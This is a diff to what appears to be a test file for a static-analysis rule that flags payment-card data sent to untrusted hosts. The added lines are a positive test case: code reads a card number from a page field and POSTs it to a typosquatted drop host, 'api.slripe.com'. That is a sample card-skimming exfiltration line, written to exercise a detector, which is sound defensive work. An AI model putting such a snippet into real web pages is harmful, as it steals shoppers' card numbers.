@@ -64,3 +64,8 @@ bt.send(JSON.stringify({ creditCard: { number: document.querySelector('#cc-numbe
 var page = { path: location.pathname, ref: document.referrer };
 // ok: card-data-to-untrusted-host
 navigator.sendBeacon('https://collect.stats-vendor.example.net/e', JSON.stringify(page));
+// ---
+// A documented drop host (an IOC rule names it) is known-bad, which outranks look-alike.
+var pan = document.getElementById('cardnumber').value;
+// ruleid: card-data-to-untrusted-host
+fetch('https://api.slripe.com/v1/tokens', { method: 'POST', body: pan });
